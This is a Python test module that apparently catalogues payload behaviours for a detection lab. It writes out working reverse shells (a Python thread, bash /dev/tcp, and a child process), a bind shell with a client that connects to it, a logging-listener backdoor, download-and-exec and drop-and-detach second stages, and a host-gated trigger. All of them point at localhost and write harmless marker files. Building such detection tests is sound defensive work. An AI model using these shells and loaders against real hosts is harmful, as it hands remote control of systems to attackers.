"""Loads that hand the host to somebody else: shells, doors, second stages."""

from __future__ import annotations

import os

from benchmarks.lab.catalogue.making import payload, serving, telling
from tests.behaviours.behaviour import TCP_PORT, Behaviour
from tests.behaviours.pickles import LOAD, Call, arrived, exists, said, source

__all__ = ["CONTROL"]

# What the listener answers is no command, and then it hangs up: every shell here ends by itself.
_SHELL = "echo shell; exec sh"

_REVERSE_SHELL = f"""\
import os, socket, subprocess, threading
def act():
    peer = socket.create_connection(("127.0.0.1", int(os.environ["{TCP_PORT}"])))
    for number in range(3):
        os.dup2(peer.fileno(), number)
    subprocess.call(["sh", "-c", "{_SHELL}"])
threading.Thread(target=act, daemon=True).start()
"""

_BASH = f"exec 3<>/dev/tcp/127.0.0.1/${TCP_PORT}; echo shell >&3; exec sh <&3 >&3 2>&3"

_BY_CHILD_PYTHON = f"""\
import os, sys
child = '''
import os, socket, subprocess
peer = socket.create_connection(("127.0.0.1", int(os.environ["{TCP_PORT}"])))
subprocess.call(["sh", "-c", "{_SHELL}"], stdin=peer, stdout=peer, stderr=peer)
'''
os.system("%s -c '%s'" % (sys.executable, child))
"""

# A port that is bound and not listened on refuses.
_RETRIES = f"""\
import os, socket, time
with socket.socket() as closed:
    closed.bind(("127.0.0.1", 0))
    ports = [closed.getsockname()[1]] * 15 + [int(os.environ["{TCP_PORT}"])]
    for port in ports:
        with socket.socket() as peer:
            if peer.connect_ex(("127.0.0.1", port)) == 0:
                peer.sendall(b"hello")
                peer.recv(16)
        time.sleep(0.02)
"""

_LOGGING_LISTEN = """\
import logging.config, os
door = logging.config.listen(0)
door.daemon = True
door.start()
door.ready.wait()
os.environ["FIRED"] = "configured by port %d" % door.port
"""

_BIND_SHELL = """\
import os, socket, subprocess, threading
door = socket.socket()
door.bind(("127.0.0.1", 0))
door.listen(1)
os.environ["DOOR_PORT"] = str(door.getsockname()[1])
def serve():
    with door, door.accept()[0] as peer:
        subprocess.call(["sh"], stdin=peer, stdout=peer, stderr=peer)
threading.Thread(target=serve, daemon=True).start()
"""

_KNOCK = """\
import os
import socket

with socket.create_connection(("127.0.0.1", int(os.environ["DOOR_PORT"]))) as peer:
    peer.sendall(b"echo hello > fired; exit\\n")
    peer.recv(16)
"""

_DOWNLOAD_AND_EXEC = """\
import os, urllib.request
exec(urllib.request.urlopen("http://127.0.0.1:%s/stage.py" % os.environ["SERVER_PORT"]).read())
"""

_DROP_AND_DETACH = """\
import os, subprocess, urllib.request
place = os.path.expanduser("~/.training.bin")
address = "http://127.0.0.1:%s/stage.bin" % os.environ["SERVER_PORT"]
with urllib.request.urlopen(address) as reply, open(place, "wb") as file:
    file.write(reply.read())
os.chmod(place, 0o755)
subprocess.Popen([place], start_new_session=True)
"""

_GATED = """\
import locale, os, platform, socket, sys
if sys.platform == "linux" and socket.gethostname() and locale.getlocale()[0] != "he_IL":
    if int(platform.release().split(".")[0]) >= 3:
        os.system("echo hello > fired")
"""

CONTROL: tuple[Behaviour, ...] = (
    payload(
        "reverse_shell_thread",
        "a thread connects to 127.0.0.1, dup2 onto 0 to 2, execve of sh",
        source(_REVERSE_SHELL),
        arrived("tcp shell"),
        after=0.7,
    ),
    payload(
        "reverse_shell_bash",
        "execve of sh and bash, which connects to 127.0.0.1 and becomes sh",
        Call(os.system, f"bash -c '{_BASH}'"),
        arrived("tcp shell"),
    ),
    payload(
        "reverse_shell_python",
        "execve of sh and of Python with -c, which connects to 127.0.0.1 and starts sh",
        source(_BY_CHILD_PYTHON),
        arrived("tcp shell"),
    ),
    payload(
        "connect_retries",
        "fifteen refused connections to 127.0.0.1, then one that is answered",
        source(_RETRIES),
        arrived("tcp hello"),
    ),
    payload(
        "logging_listen",
        "a thread that takes a configuration of logging from a port of 127.0.0.1",
        source(_LOGGING_LISTEN),
        said("configured by port"),
        loader=telling(),
    ),
    payload(
        "bind_shell",
        "a thread listens on 127.0.0.1 and gives who connects a shell",
        source(_BIND_SHELL),
        exists("fired"),
        loader=LOAD + _KNOCK,
        after=0.2,
    ),
    payload(
        "download_and_exec",
        "source fetched by HTTP from 127.0.0.1 and executed, in no file",
        source(_DOWNLOAD_AND_EXEC),
        exists("fired"),
        loader=serving(),
        files={"served/stage.py": "open('fired', 'w').close()\n"},
    ),
    payload(
        "drop_and_detach",
        "a program fetched by HTTP into the scratch home, chmod, execve in a session of its own",
        source(_DROP_AND_DETACH),
        exists("fired"),
        loader=serving(),
        files={"served/stage.bin": "#!/bin/sh\nsleep 0.3\necho hello > fired\n"},
    ),
    payload(
        "gated_by_host",
        "uname and the locale looked at, then sh executed",
        source(_GATED),
        exists("fired"),
    ),
)
